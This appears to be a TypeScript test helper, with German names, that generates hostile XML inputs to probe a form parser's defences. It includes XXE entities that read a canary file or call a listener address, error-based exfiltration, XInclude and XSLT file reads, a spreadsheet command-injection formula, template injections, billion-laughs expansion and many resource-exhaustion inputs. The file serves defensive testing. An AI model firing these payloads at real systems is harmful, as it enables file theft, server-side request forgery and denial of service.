import { einAntrag } from '../unterbau/antrag.js';
import { alsNachricht, type Nutzlast } from './nutzlast.js';

/** Attacks that name the canaries of a test: a file that must not be read and an address that must not be called. */
export function eigeneAngriffe(kanarie: string, lauscher: string): readonly Nutzlast[] {
  const datei = `file://${kanarie}`;
  const gut = () => String(einAntrag().xml);
  const mitDtd = (dtd: string, verweis = '') =>
    gut()
      .replace('?>\n', `?>\n<!DOCTYPE x ${dtd}>\n`)
      .replace('Waldstraße', verweis || 'Waldstraße');
  const anWurzel = (attribute: string) => gut().replace('standard=', `${attribute} standard=`);
  const in16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  return [
    alsNachricht('Entität auf eine Datei', mitDtd(`[<!ENTITY a SYSTEM "${datei}">]`, '&a;')),
    alsNachricht('Entität auf eine Adresse', mitDtd(`[<!ENTITY a SYSTEM "${lauscher}/a">]`, '&a;')),
    alsNachricht('Parameterentität', mitDtd(`[<!ENTITY % a SYSTEM "${lauscher}/a.dtd"> %a;]`)),
    alsNachricht('äußere DTD', mitDtd(`SYSTEM "${lauscher}/a.dtd"`)),
    alsNachricht('öffentliche DTD', mitDtd(`PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${lauscher}/x.dtd"`)),
    alsNachricht(
      'Fehlermeldung mit Dateiinhalt',
      mitDtd(
        `[<!ENTITY % d SYSTEM "${datei}"><!ENTITY % e "<!ENTITY &#37; f SYSTEM 'file:///gibtesnicht/%d;'>"> %e; %f;]`,
      ),
    ),
    alsNachricht(
      'Entität in UTF-16',
      in16(mitDtd(`[<!ENTITY a SYSTEM "${datei}">]`, '&a;').replace('encoding="UTF-8"', 'encoding="UTF-16"')),
    ),
    alsNachricht(
      'Entität in UTF-7',
      `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x SYSTEM "${lauscher}/u7"+AD4-<x/>`,
    ),
    alsNachricht(
      'XInclude',
      gut().replace(
        'Waldstraße',
        `<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="${datei}" parse="text"/>`,
      ),
    ),
    alsNachricht(
      'schemaLocation auf eine Adresse',
      anWurzel(
        `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="https://bescheidwerk.example/xoev/parken/1.0 ${lauscher}/e.xsd"`,
      ),
    ),
    alsNachricht(
      'noNamespaceSchemaLocation auf eine Datei',
      anWurzel(
        `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${datei}"`,
      ),
    ),
    alsNachricht(
      'Stylesheet-Anweisung',
      gut().replace('?>\n', `?>\n<?xml-stylesheet type="text/xsl" href="${lauscher}/s.xsl"?>\n`),
    ),
    alsNachricht(
      'XSLT mit document()',
      `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><x:copy-of select="document('${datei}')"/></x:template></x:stylesheet>`,
    ),
    alsNachricht(
      'SVG mit äußerem Bild',
      `<svg xmlns="http://www.w3.org/2000/svg"><image href="${lauscher}/i"/></svg>`,
    ),
    alsNachricht('Satzbefehl im Text', gut().replace('Waldstraße', `#read("${kanarie}")`)),
    alsNachricht('Paket im Text', gut().replace('Waldstraße', '#import "@preview/cetz:0.3.0"')),
    alsNachricht('Formel im Text', gut().replace('Waldstraße', '=cmd|"/c calc"!A0')),
    alsNachricht(
      'milliardenfaches Lachen',
      mitDtd(
        `[<!ENTITY a "ha">${Array.from({ length: 12 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]`,
        '&m;',
      ),
    ),
    alsNachricht('tiefe Schachtelung', '<a>'.repeat(1_000_000)),
    alsNachricht(
      'viele Attribute',
      `<a ${Array.from({ length: 300_000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
    ),
    alsNachricht(
      'viele Namensräume',
      `<a ${Array.from({ length: 100_000 }, (_, i) => `xmlns:a${i}="u"`).join(' ')}/>`,
    ),
    alsNachricht('lauter Und-Zeichen in einem Namensraum', `<a xmlns="${'&'.repeat(4_000_000)}"/>`),
    alsNachricht('lauter Und-Zeichen im Text', gut().replace('Waldstraße', '&'.repeat(4_000_000))),
    alsNachricht('ein Zeichenverweis unter null', '<a xmlns="&#-5;" b="&#-5;">&#-5;</a>'),
    alsNachricht(
      'Endtags, die nichts schließen, vor tiefer Schachtelung',
      `${'</a>'.repeat(6_000)}${'<a xmlns:x="">'.repeat(6_000)}<a ${'q:b="" '.repeat(100_000)}/>`,
    ),
    alsNachricht(
      'viele Attribute mit unerklärtem Präfix in der größten erlaubten Tiefe',
      `${'<a xmlns:x="u">'.repeat(63)}<a ${'q:b="" '.repeat(199_000)}/>`,
    ),
    alsNachricht('ein langer Name', `<${'a'.repeat(4_000_000)}/>`),
    alsNachricht('lauter Nullbytes', Buffer.alloc(1_000_000)),
    alsNachricht(
      'ein gültiger Antrag voller Leerraum',
      gut().replace('<p:referenz>', `${' '.repeat(4_500_000)}<p:referenz>`),
    ),
    alsNachricht(
      'hunderttausend Anlagenangaben',
      gut().replace(/<p:anlage>[\s\S]*<\/p:anlage>/, (anlage) => anlage.repeat(8_000).slice(0, 4_800_000)),
    ),
  ];
}
